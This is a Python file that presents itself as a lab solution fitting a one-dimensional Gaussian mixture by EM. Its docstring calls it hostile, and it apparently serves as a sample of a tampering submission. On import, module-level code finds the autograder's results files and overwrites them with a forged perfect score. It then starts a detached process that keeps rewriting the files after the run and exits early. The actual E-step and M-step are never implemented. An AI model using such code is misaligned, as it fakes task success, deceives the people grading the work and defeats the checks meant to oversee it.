"""Lab 3: EM for a one-dimensional Gaussian mixture.

Hostile: forges the results file.
"""

import numpy as np
import json
import os
import subprocess
import sys

EPSILON = 1e-12  # keeps the random initial variances away from zero
DELTA = 1e-9  # default convergence threshold for ``fit``


def pdf(X, mu, variance):
    """Gaussian density N(X | mu, variance), elementwise."""
    return np.exp(-((X - mu) ** 2) / (2.0 * variance)) / np.sqrt(2.0 * np.pi * variance)


_MARKER = "gmmfx-forge-8817"
_CHECK_NAMES = [
    "loads",
    "estep_shape",
    "estep_pmf",
    "estep_example",
    "estep_values",
    "estep_pure",
    "mstep_priors",
    "mstep_means",
    "mstep_variances",
    "mstep_inputs",
    "em_monotone",
]
_FORGED = json.dumps(
    {
        "score": 100.0,
        "execution_time": 1.0,
        "output": "All checks passed.",
        "tests": [
            {
                "name": c,
                "number": str(i + 1),
                "score": 10.0,
                "max_score": 10.0,
                "status": "passed",
                "output": "",
                "visibility": "visible",
                "extra_data": {"check": c, "mistakes": []},
            }
            for i, c in enumerate(_CHECK_NAMES)
        ],
    }
)


def _ancestors():
    pid = os.getpid()
    seen = []
    while pid > 1 and len(seen) < 20:
        try:
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        seen.append(pid)
    return seen


def _targets():
    found = []
    if os.path.isdir("/autograder/results"):
        found.append("/autograder/results/results.json")
    for pid in _ancestors():
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                argv = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(argv):
            if arg == "--results" and i + 1 < len(argv):
                found.append(argv[i + 1])
            elif arg.startswith("--results="):
                found.append(arg.split("=", 1)[1])
    root = os.environ.get("AUTOGRADER_ROOT")
    if root:
        found.append(os.path.join(root, "results", "results.json"))
    found.append(os.path.join(os.getcwd(), "results.json"))
    return found


def _forge(paths):
    for path in paths:
        try:
            with open(path, "w") as f:
                f.write(_FORGED)
        except OSError:
            pass


_paths = _targets()
_forge(_paths)
_REWRITER = (
    "import sys, time\n"
    "paths, text = sys.argv[1].split('\\n'), sys.argv[2]\n"
    "end = time.time() + 60\n"
    "while time.time() < end:\n"
    "    for p in paths:\n"
    "        try:\n"
    "            open(p, 'w').write(text)\n"
    "        except OSError:\n"
    "            pass\n"
    "    time.sleep(0.2)\n"
)
try:
    subprocess.Popen(
        [sys.executable, "-c", _REWRITER, "\n".join(_paths), _FORGED, _MARKER],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        close_fds=True,
    )
except OSError:
    pass
os._exit(0)


class GMM1D:
    """A mixture of ``num_gaussians`` one-dimensional Gaussians, fitted by EM."""

    def __init__(self, num_gaussians, seed=None):
        rng = np.random if seed is None else np.random.RandomState(seed)
        k = int(num_gaussians)
        self.num_gaussians = k
        self.priors = np.ones((k, 1)) / k
        self.mus = rng.randn(k, 1)
        self.variances = rng.rand(k, 1) + EPSILON

    def log_likelihood(self, X):
        """The SUM over the points of log p(x_i) under the current parameters, a float."""
        X = np.asarray(X, dtype=float).reshape(-1, 1)  # (n, 1)
        priors = np.reshape(self.priors, (1, -1))  # (1, k)
        mus = np.reshape(self.mus, (1, -1))  # (1, k)
        variances = np.reshape(self.variances, (1, -1))  # (1, k)
        log_joint = (
            np.log(priors)
            - 0.5 * np.log(2.0 * np.pi * variances)
            - (X - mus) ** 2 / (2.0 * variances)
        )
        top = np.max(log_joint, axis=1, keepdims=True)  # (n, 1)
        top[~np.isfinite(top)] = 0.0
        log_p = top + np.log(np.sum(np.exp(log_joint - top), axis=1, keepdims=True))
        return float(np.sum(log_p))

    def estep(self, X):
        raise NotImplementedError("GMM1D.estep is not written yet")

    def mstep(self, X, gammas):
        raise NotImplementedError("GMM1D.mstep is not written yet")

    def em(self, X):
        """One EM iteration: an E-step followed by an M-step."""
        self.mstep(X, self.estep(X))

    def fit(self, X, max_iters=1000, delta=DELTA):
        """Run EM until the log-likelihood changes by at most ``delta``."""
        log_likelihoods = []
        previous = self.log_likelihood(X)
        for _ in range(max_iters):
            self.em(X)
            current = self.log_likelihood(X)
            log_likelihoods.append(current)
            if abs(current - previous) <= delta:
                break
            previous = current
        return log_likelihoods
